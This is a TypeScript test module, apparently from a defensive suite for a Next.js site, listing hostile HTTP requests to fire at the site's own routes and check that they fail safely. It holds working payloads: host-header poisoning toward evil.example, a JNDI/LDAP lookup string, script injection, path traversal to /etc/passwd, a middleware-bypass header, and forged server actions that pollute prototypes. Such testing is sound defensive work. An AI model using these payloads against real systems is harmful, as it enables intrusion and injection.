import { type Attack, HARMLESS } from './attack';
import type { Scene } from './scene';

const EVIL = /evil\.example/;
const LONG = 'a,'.repeat(4_000);
const BYTES = '\u00ff\u00fe\u0080';

/** Headers that other servers have believed, and headers that are nothing but bytes. */
export function listHeaderAttacks({ published, photo }: Scene): Attack[] {
  const page = published.path;
  const believed: Record<string, string>[] = [
    { 'X-Forwarded-Host': 'evil.example' },
    { 'X-Forwarded-Host': 'evil.example', 'X-Forwarded-Proto': 'javascript' },
    { Forwarded: 'host=evil.example;proto=http' },
    { Host: 'evil.example' },
    { Host: 'evil.example:80@127.0.0.1' },
    { 'X-Original-URL': '/admin', 'X-Rewrite-URL': '/api/users' },
    { 'X-Forwarded-Prefix': '//evil.example' },
    { 'X-HTTP-Method-Override': 'DELETE' },
    { 'X-Method-Override': 'PATCH', 'X-HTTP-Method': 'PUT' },
    { 'x-middleware-subrequest': 'middleware:middleware:middleware:middleware:middleware' },
    { 'x-middleware-invoke': '1', 'x-invoke-path': '/admin', 'x-invoke-query': '%7B%7D' },
    { 'x-middleware-prefetch': '1' },
    { 'x-invoke-status': '200', 'x-invoke-error': '{}' },
    { 'x-matched-path': '/admin/[[...segments]]', 'x-now-route-matches': '1=admin' },
    { 'x-nextjs-data': '1' },
    { 'x-nextjs-rewritten-path': '/admin' },
    { 'x-prerender-revalidate': 'x' },
    { RSC: '1', 'Next-Router-State-Tree': '%5B%22%22%5D' },
    { RSC: '1', 'Next-Router-Prefetch': '1', 'Next-Url': '//evil.example' },
    { 'Next-Router-State-Tree': 'not json' },
    { 'next-resume': '1' },
    { Origin: 'https://evil.example' },
    { Referer: 'https://evil.example/"><script>' },
    { 'User-Agent': '${jndi:ldap://evil.example/a} <script>alert(1)</script>' },
    { Cookie: 'payload-token=evil; lng=../../etc; payload-theme="><script>alert(1)</script>' },
    { Cookie: `${'a=b; '.repeat(1_500)}` },
    { Cookie: `payload-token=%00; =; ;;; payload-lng=__proto__; ${BYTES}` },
    { 'If-None-Match': LONG },
    { 'If-None-Match': `W/"${BYTES}`, 'If-Modified-Since': 'yesterday' },
    { 'If-Match': '*', 'If-Unmodified-Since': 'Thu, 01 Jan 1970 00:00:00 GMT' },
    { Accept: LONG },
    { Accept: 'text/html;q=1e309, */*;q=-1, ;;;=,"' },
    { Accept: `text/x-bibliography; style=../../etc/passwd; locale=__proto__` },
    { Accept: 'text/x-bibliography; style=__proto__; locale=constructor' },
    { Accept: 'application/epub+zip;q=NaN, application/ld+json;profile="\\"><script>"' },
    { Accept: BYTES },
    { 'Accept-Language': LONG },
    { 'Accept-Language': 'km-'.repeat(1_000) },
    { 'Accept-Language': '*;q=x, __proto__, ../../etc' },
    { 'Accept-Encoding': 'gzip;q=0, br;q=9, deflate, *;q=x' },
    { Range: 'bytes=0-0,-1,9999999999999-,5-2' },
    { Range: `bytes=${'0-0,'.repeat(1_500)}0-0` },
    { 'Content-Type': 'multipart/form-data', 'Content-Length': '0' },
    { 'Content-Length': '0', 'Content-Encoding': 'gzip, bomb' },
    { Authorization: 'Basic YWRtaW46YWRtaW4=' },
    { 'X-Forwarded-For': `${'127.0.0.1, '.repeat(500)}::1` },
    { 'X-Forwarded-For': '<script>alert(1)</script>' },
    { 'X-Request-Id': `\u00ff${'x'.repeat(4_000)}` },
    { Traceparent: '<script>alert(1)</script>', Via: 'evil.example' },
    { Expect: '200-maybe' },
    { TE: 'trailers, chunked;q=x' },
  ];
  const onPages = believed.map((headers): Attack => ({
    name: `header: ${JSON.stringify(headers).slice(0, 100)}`,
    path: page,
    headers,
    status: [...HARMLESS, 416, 417, 421],
    // Admin pages, shown in place of an article, would be named so.
    lacks: /evil\.example|<script>alert|collapsible-field|id="payload-root"|"pageProps"/,
  }));
  const start = (headers: Record<string, string>, path = '/'): Attack => ({
    name: `header: ${path} ${JSON.stringify(headers).slice(0, 100)}`,
    path,
    headers,
    status: [...HARMLESS, 421],
    lacks: EVIL,
  });
  return [
    ...onPages,
    start({ Host: 'evil.example' }),
    start({ 'X-Forwarded-Host': 'evil.example' }),
    start({ 'X-Forwarded-Host': 'evil.example' }, '/sitemap.xml'),
    start({ Host: 'evil.example' }, '/en/feed.xml'),
    start({ Host: 'evil.example' }, '/oai?verb=Identify'),
    start({ 'X-Forwarded-Host': 'evil.example' }, '/admin/login'),
    start({ Origin: 'https://evil.example' }, '/api/users/me'),
    start({ 'Accept-Datetime': LONG }, `/timegate/${encodeURIComponent(page)}`),
    start({ 'Accept-Datetime': 'Thu, 31 Feb 99999 99:99:99 GMT' }, `/timegate/${encodeURIComponent(page)}`),
    start({ Range: 'bytes=9-1' }, `/media/${photo.sha256}/40.jpg`),
    {
      ...start({}, '/api/users/me'),
      headers: { Origin: 'https://evil.example' },
      answered: { 'access-control-allow-origin': /^(?!https:\/\/evil|\*)/ },
    },
    {
      name: 'header: a forged server action',
      method: 'POST',
      path: '/admin',
      headers: { 'Next-Action': 'a'.repeat(40), 'Content-Type': 'text/plain;charset=UTF-8' },
      body: '[]',
      status: [...HARMLESS],
    },
    {
      name: 'header: a forged server action on a reading page',
      method: 'POST',
      path: page,
      headers: { 'Next-Action': '0'.repeat(42), 'Content-Type': 'multipart/form-data; boundary=x' },
      body: '--x\r\nContent-Disposition: form-data; name="$ACTION_REF_1"\r\n\r\n\r\n--x--\r\n',
      status: [...HARMLESS],
    },
    {
      name: 'header: a server action that pollutes a prototype',
      method: 'POST',
      path: '/admin/login',
      headers: { 'Next-Action': 'f'.repeat(42), 'Content-Type': 'multipart/form-data; boundary=x' },
      body: '--x\r\nContent-Disposition: form-data; name="0"\r\n\r\n["$1:__proto__:then"]\r\n--x\r\nContent-Disposition: form-data; name="1"\r\n\r\n{"status":"resolved_model","then":"$1:__proto__:constructor"}\r\n--x--\r\n',
      status: [...HARMLESS],
    },
    ...['PUT', 'DELETE', 'PATCH', 'POST', 'TRACE', 'PROPFIND', 'OPTIONS'].map((method): Attack => ({
      name: `header: ${method} on a reading page`,
      method,
      path: page,
      status: [...HARMLESS, 501],
      lacks: /X-Forwarded-For: 198/i,
    })),
  ];
}
